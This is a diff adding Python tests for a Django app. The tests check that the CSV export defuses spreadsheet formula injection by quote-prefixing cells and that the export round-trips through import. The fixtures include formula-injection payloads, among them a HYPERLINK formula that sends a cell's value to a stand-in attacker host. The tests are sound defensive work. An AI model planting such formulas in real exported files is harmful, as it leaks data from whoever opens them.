@@ -3,6 +3,7 @@ the admin scope and role as for the JSON import, and export → import round tri
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import time
@@ -249,3 +250,43 @@ def test_a_zip_member_whose_name_holds_a_nul_is_refused_naming_it_and_writes_not
         assert response.status_code == 400, response.content
         assert "b.md\\x00.exe" in response.json()["file"][0]
     assert not ImportJob.objects.exists() and not KnowledgeItem.objects.exists()
+
+
+FORMULAS = [
+    {"title": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "content": "+1+2", "tags": ["-ops", "@team"]},
+    {"title": "@SUM(A1:A9)", "content": "-2+3 is a cell a spreadsheet would run", "tags": ["billing"]},
+    {"title": "Tabbed", "content": "\t=1+1 starts with a tab", "tags": []},
+    {"title": "Returned", "content": "\r=1+1 starts with a carriage return", "tags": []},
+    {"title": "'Quoted already", "content": "'=1+1 a quote then a formula", "tags": ["'q"]},
+    {"title": "Plain", "content": "Nothing to neutralise = here.", "tags": ["ops"]},
+]
+
+
+def test_a_csv_export_holds_no_formula_a_spreadsheet_runs_and_imports_back_unchanged(cast, eager_jobs):
+    client = api_client_for(cast.owner)
+    services.items_import(records=enumerate(FORMULAS, 1), default_project=cast.project, projects_by_slug={})
+    data = b"".join(client.get("/api/v1/items/export/?project=acme&format=csv").streaming_content)
+    sheet = list(csv.reader(io.StringIO(data.decode(), newline="")))
+    cells = [cell for row in sheet[1:] for cell in row]
+    assert len(sheet) == len(FORMULAS) + 1
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=HYPERLINK(" in data.decode() and "'+1+2" in data.decode() and "'-ops;@team" in data.decode()
+    project_create(name="Empty", slug="empty", owner=cast.owner)
+    with eager_jobs(execute=True):
+        response = client.post(
+            "/api/v1/imports/?project=empty&format=csv",
+            {"file": SimpleUploadedFile("x.csv", data)},
+            format="multipart",
+        )
+    job = client.get(f"/api/v1/imports/{response.json()['id']}/").json()
+    assert job["status"] == "done" and job["result"]["created"] == len(FORMULAS), job
+    assert as_rows(Project.objects.get(slug="empty")) == as_rows(cast.project)
+
+
+def test_a_hand_made_csv_without_the_export_column_keeps_its_leading_quotes(cast):
+    report = services.import_upload(
+        project=cast.project, format="csv", name="mine.csv", data=b"title,content\n'=1,'+2\n", dry_run=False
+    )
+    assert report.created == 1
+    item = KnowledgeItem.objects.get()
+    assert (item.title, item.content) == ("'=1", "'+2")
